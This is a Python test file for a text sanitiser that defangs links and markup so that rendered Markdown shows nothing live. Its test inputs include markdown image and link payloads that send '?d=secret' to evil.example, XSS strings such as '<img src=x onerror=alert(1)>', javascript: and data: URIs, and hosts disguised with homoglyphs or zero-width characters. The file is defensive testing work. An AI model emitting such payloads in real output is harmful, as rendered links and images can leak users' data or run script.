"""Nothing that was made plain becomes a link, a picture or an element where it is rendered."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from metier.text.plain import plain

RENDER = MarkdownIt("gfm-like", {"html": True, "linkify": True, "breaks": True})
LIVE = ("<a ", "<img", "<script", "<svg", "<iframe", "<b>", 'javascript:alert(1)"')

ATTEMPTS = (
    "![x](http://evil.example/?d=secret)",
    "[x](https://evil.example/?d=secret)",
    "[x][r]\n\n[r]: https://evil.example/secret",
    "[r]\n\n[r]:\nhttps://evil.example/secret",
    "<https://evil.example/secret>",
    "https://evil.example/secret",
    "http://127.0.0.1/secret and ftp://evil.example",
    "www.evil.com/secret",
    "evil.com/secret",
    "EVIL.COM?d=1",
    "//evil.com/secret",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]\u200b(https://evil.example)",
    "ht\u200btps://evil.example/x",
    "h\u2060ttps://ev\u00adil.com/x",
    "\u0435vil.com/secret",
    "https:\\\\evil.com/secret",
    "https:/evil.com/secret",
    "evil\u3002com and evil\uff0ecom",
    "[x](<http://evil.example/a b>)",
    "![x\n](http://evil.example)",
    "&lt;img src=http://evil.example&gt;",
    "&#x68;ttps://evil.example",
    "[x](\n//evil.com)",
    "[^1]\n\n[^1]: https://evil.com",
    "xmpp:a@evil.com/b?c",
    "<mailto:a@evil.com?body=secret>",
    "[x](mailto:a@evil.com?body=secret)",
    "<!-- http://evil.com -->",
    "<<b>img src=x>",
    "http://http://evil.com",
    "hthttp://tp://evil.com/x",
    "wwwww.w.evil.com",
    "https://user@evil.com/x",
)  # fmt: skip


def rendered(text: str) -> str:
    return RENDER.render(text).replace('<a href="mailto:', "<mail ")


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_no_attempt_is_live(attempt: str) -> None:
    found = rendered(plain(f"The period is six weeks. {attempt}") + "\n\n" + plain(attempt))
    assert not any(mark in found for mark in LIVE), found
    assert "?body" not in found.partition("<mail ")[2].partition(">")[0]


@given(st.lists(st.sampled_from([*ATTEMPTS, "http", ":", "//", "[", "]", "(", ")", "<", ">", "!", " ", "\n", "www", ".", "evil", ".com", "a@b", "\\", "`", "*"]), max_size=6).map("".join))  # fmt: skip
def test_pieces_put_together_are_not_live(text: str) -> None:
    found = rendered(plain(text))
    assert not any(mark in found for mark in LIVE[:6]), (text, plain(text), found)


def test_a_host_inside_a_host_is_not_live() -> None:
    assert plain("See evil.com.com and a.b.co.uk.") == "See evil[.]com[.]com and a.b[.]co[.]uk."
    assert plain("ftp://evil.example`.com") == "evil.example`[.]com"
    assert plain("https://portal.example.com/x") == "portal.example[.]com/x"


@given(st.text(alphabet="ab./:@[]()<>!w-\u200b\n x", max_size=40))
def test_once_is_enough(text: str) -> None:
    assert plain(plain(text)) == plain(text)


@pytest.mark.parametrize(
    "text",
    [
        "The period is six weeks, i.e. 42 days (see § 3.2).",
        "Ask Anna Weber (anna.weber@nordwind.example), Tel: +49 30 1234.",
        "U.S. revenue was $1,234.5m [2] in 2019; x < 5 and y > 3.",
        "z.B. die Frist, d.h. 3 Tage; siehe report.pdf, v1.2.3 und notes.md",
        "نمی‌خواهم",
        "| a | b |\n- **bold** `code`",
    ],
)
def test_ordinary_words_are_unchanged(text: str) -> None:
    assert plain(text) == text


def test_an_address_stays_readable() -> None:
    assert plain("See https://portal.example.com/leave.") == "See portal.example[.]com/leave."
